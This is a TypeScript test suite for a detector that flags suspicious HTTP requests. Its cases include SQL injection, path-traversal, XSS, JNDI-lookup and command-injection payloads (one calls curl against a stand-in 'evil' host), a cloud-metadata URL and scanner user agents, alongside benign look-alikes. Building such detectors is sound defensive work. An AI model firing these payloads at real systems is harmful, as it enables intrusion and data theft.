import { aHead } from '../../shared/http/testing';
import { signatures } from './signatures';
import { plainText } from './plain-text';
import { suspecting, suspicions } from './suspect';
import { TextFinder } from './text-finder';

const suspicionOf = suspecting({ allow: [], methods: [], userAgents: [] });
const ofQuery = (query: string): string | undefined => suspicionOf(aHead({ path: '/api/v0/search', query }));
const ofPath = (path: string): string | undefined => suspicionOf(aHead({ path }));

describe('a suspicion', () => {
  it.each([
    ["?id=1'%20OR%20'1'='1", 'sql-injection'],
    ['?id=1%27+or+1%3D1--', 'sql-injection'],
    ["?id=-1'/**/UNION/**/SELECT/**/password", 'sql-injection'],
    ['?id=7+union+select+name,hash+from+users', 'sql-injection'],
    ['?id=1;WAITFOR DELAY%20%270:0:5%27', 'sql-injection'],
    ['?id=(select(0)from(select(sleep(5)))v)', 'sql-injection'],
    ['?file=../../../etc/passwd', 'path-traversal'],
    ['?file=%252e%252e%252f%252e%252e%252fetc', 'path-traversal'],
    ['?file=..%5C..%5Cwindows', 'path-traversal'],
    ['?page=php://filter/convert', 'wrapped-file'],
    ['?q=%3CScRiPt%3Ealert(1)', 'cross-site-scripting'],
    ['?q=%3Cimg%20src=x%20onerror%20=alert(1)%3E', 'cross-site-scripting'],
    ['?x=%24%7Bjndi:ldap://evil/a%7D', 'lookup-injection'],
    ['?x=${${lower:j}ndi:ldap://e}', 'lookup-injection'],
    ['?cmd=a;cat%20/etc/hosts', 'command-injection'],
    ['?cmd=$(curl%20http://evil)', 'command-injection'],
    ['?next=%0d%0aSet-Cookie:%20a=b', 'response-splitting'],
    ['?a=b%00.jpg', 'null-byte'],
    ['?url=http://169.254.169.254/latest/meta-data', 'cloud-metadata'],
    ['?__proto__[admin]=1', 'object-pollution'],
    ['?name={{7*7}}', 'template-injection'],
    ['?[$where]=1', 'nosql-injection'],
  ])('falls on the query %s', (query, id) => expect(ofQuery(query)).toBe(id));

  it.each([
    ['/.env', 'scanner-path'],
    ['/app/.git/config', 'scanner-path'],
    ['/WP-Login.php', 'scanner-path'],
    ['/files/%252e%252e/%252e%252e/x', 'hidden-dot-segment'],
    ['/x/%3Cscript%3E', 'cross-site-scripting'],
  ])('falls on the path %s', (path, id) => expect(ofPath(path)).toBe(id));

  it.each(['sqlmap/1.8', 'Mozilla/5.00 (Nikto/2.5)', 'Nuclei - Open-source', '() { :; }; echo x'])(
    'falls on the user agent %s',
    (agent) => expect(suspicionOf(aHead({ headers: { 'User-Agent': agent } }))).toBeDefined(),
  );

  it.each(['PROPFIND', 'DEBUG', 'TRACE'])('falls on %s', (method) =>
    expect(suspicionOf(aHead({ method }))).toBe('suspect-method'),
  );

  it.each([
    '?q=JavaScript:+The+Good+Parts',
    '?q=credit+union+select+account',
    "?name=Conan+O'Orlando+and+O'Brien",
    "?q=it's+'this'+or+'that'",
    '?q=select+all+from+the+menu',
    '?q=drop+table+lamps&sort=-price',
    '?q=1+or+2+items;+any+colour',
    '?filter=status+eq+%27OPEN%27+or+status+eq+%27HELD%27',
    '?filter=a=1+and+b=2',
    '?filter[price][$gt]=5&filter[name][$ne]=x',
    '?redirect=/orders/../home',
    '?redirect=https%3A%2F%2Fportal.example%2Fcallback%3Fa%3Db%26c%3Dd',
    '?path=a/b/c&file=report.2026..final.pdf',
    '?q=a+%3C+b+and+c+%3E+d',
    '?q=100%25+cotton+%26+50%25+off',
    '?q=price+%24%7B5%7D',
    '?email=ana%2Bcargo%40example.test',
    '?cursor=eyJpZCI6MTIzfQ%3D%3D',
    '?q=%E6%97%A5%E6%9C%AC%E8%AA%9E+%F0%9F%9A%9A',
    '?q=sleep+well;+id+card;+who+am+i',
    '?q=R%26D+(alert)+script+document',
    '?onload=yes&onerror=no&srcset=1',
    '?q=how+to+curl+http+and+wget',
    '?signature=abc%2Fdef%2B%2F%2Fghi%3D%3D',
    '?t=2026-01-01T00:00:00%2B01:00',
    '?broken=%E0%A4%A',
  ])('does not fall on %s', (query) => expect(ofQuery(query)).toBeUndefined());

  it.each([
    '/api/v0/mawbs/020-12345675',
    '/environment',
    '/docs/.well-known/x',
    '/a.b/c..d/e',
    '/git/config',
    '/Caf%C3%A9/100%25',
  ])('does not fall on the path %s', (path) => expect(ofPath(path)).toBeUndefined());

  it.each([
    'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0',
    'curl/8.14.1',
    'python-requests/2.32',
    'kube-probe/1.33',
    'PostmanRuntime/7.45',
  ])('does not fall on the user agent %s', (agent) =>
    expect(suspicionOf(aHead({ headers: { 'User-Agent': agent } }))).toBeUndefined(),
  );

  it('leaves out what a route allows, and takes what it adds', () => {
    const own = suspecting({ allow: ['cross-site-scripting'], methods: ['PATCH'], userAgents: ['BadBot'] });
    expect(own(aHead({ query: '?q=%3Cscript%3E' }))).toBeUndefined();
    expect(own(aHead({ query: '?q=%3Cscript%3E../../etc' }))).toBe('path-traversal');
    expect(own(aHead({ method: 'PATCH' }))).toBe('suspect-method');
    expect(own(aHead({ headers: { 'User-Agent': 'x badbot/1' } }))).toBe('unwanted-agent');
  });

  it('remembers the user agents of many, and no long one of a stranger', () => {
    const set = jest.spyOn(Map.prototype, 'set');
    const long = `sqlmap/${'x'.repeat(10_000)}`;
    for (const agent of ['curl/8', long]) suspicionOf(aHead({ headers: { 'User-Agent': agent } }));
    const remembered = set.mock.calls.map(([key]) => key as unknown);
    set.mockRestore();
    expect([remembered.includes('curl/8'), remembered.includes(long)]).toEqual([true, false]);
    expect(suspicionOf(aHead({ headers: { 'User-Agent': long } }))).toBe('scanner-agent');
  });

  it('has one name for each signature, and texts in the form in which they are looked for', () => {
    expect(new Set(suspicions).size).toBe(suspicions.length);
    for (const { id, texts } of signatures)
      for (const text of texts) expect([id, text, plainText(text)]).toEqual([id, text, text]);
  });
});

describe('TextFinder', () => {
  it('finds what a plain search finds, for texts that overlap', () => {
    const texts = ['aba', 'abab', 'b', 'bab', 'aab'];
    const finder = new TextFinder(texts);
    const words = Array.from({ length: 3 ** 7 }, (_, bits) =>
      Array.from({ length: 7 }, (_, at) => 'abc'[Math.floor(bits / 3 ** at) % 3]).join(''),
    );
    const differing = words.filter((word) =>
      texts.some((text, index) => finder.find(word, (found) => found === index) >= 0 !== word.includes(text)),
    );
    expect(differing).toEqual([]);
  });

  it('takes only ASCII', () => {
    expect(() => new TextFinder(['é'])).toThrow('not ASCII');
    expect(new TextFinder(['ab']).find('aéb ab', () => true)).toBe(0);
  });
});
